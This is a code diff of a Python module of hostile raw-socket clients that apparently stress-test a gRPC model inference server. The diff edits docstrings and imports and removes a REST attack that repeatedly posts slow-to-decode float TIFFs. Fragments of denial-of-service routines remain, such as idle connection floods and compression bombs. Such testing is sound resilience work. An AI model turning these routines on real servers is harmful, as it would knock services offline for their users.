@@ -1,9 +1,9 @@
-"""Hostile clients, over raw sockets: each sends until it is told to stop, or its server closes.
+"""Attackers of the gRPC port, over raw sockets: HTTP/2 by hand, so that its rules can be broken.
 
-Each takes a host, a port and an event that stops it, and returns how many bytes it has sent.
+Each sends until it is told to stop, and connects again where the server closes. Each takes a host,
+a port and an event that stops it, and returns how many bytes it has sent.
 """
 
-import io
 import select
 import socket
 import struct
@@ -11,9 +11,6 @@ import time
 import zlib
 from collections.abc import Iterable
 from threading import Event
-
-import numpy as np
-from PIL import Image
 
 INFER = "/inference.GRPCInferenceService/ModelInfer"
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -81,9 +78,6 @@ def _read_away(connection: socket.socket) -> None:
 def _close(connections: Iterable[socket.socket]) -> None:
     for connection in connections:
         connection.close()
-
-
-# Attacks on the gRPC port.
 
 
 def small_headers(host: str, port: int, stop: Event) -> int:
@@ -171,7 +165,8 @@ def idle_connections(
     host: str, port: int, stop: Event, count: int = 2000, greet: bool = True
 ) -> int:
     """Connections that say nothing more, or nothing at all."""
-    connections, sent = [], 0
+    connections: list[socket.socket] = []
+    sent = 0
     while not stop.is_set():
         while len(connections) < count and not stop.is_set():
             try:
@@ -316,35 +311,6 @@ def compressed_bombs(host: str, port: int, stop: Event, mib: int = 1024) -> int:
                     _read_away(connection)
                     if stop.wait(0.1):
                         break
-        except OSError:
-            time.sleep(0.01)
-    return sent
-
-
-# Attacks on the REST port.
-
-
-def float_tiffs(
-    host: str, port: int, stop: Event, name: str = "brain-tumor", side: int = 4472
-) -> int:
-    """Float TIFFs that are small, and take long to decode; asked for again and again."""
-    file = io.BytesIO()
-    Image.fromarray(np.zeros((side, side), np.float32)).save(
-        file, "TIFF", compression="tiff_adobe_deflate"
-    )
-    body = file.getvalue()
-    head = (
-        f"POST /v1/models/{name}:predict HTTP/1.1\r\nHost: x\r\nContent-Type: image/tiff\r\n"
-        f"Content-Length: {len(body)}\r\n\r\n"
-    ).encode()
-    sent = 0
-    while not stop.is_set():
-        try:
-            with socket.create_connection((host, port), timeout=60) as connection:
-                connection.sendall(head + body)
-                sent += len(head) + len(body)
-                while not stop.is_set() and not select.select([connection], [], [], 0.1)[0]:
-                    pass
         except OSError:
             time.sleep(0.01)
     return sent
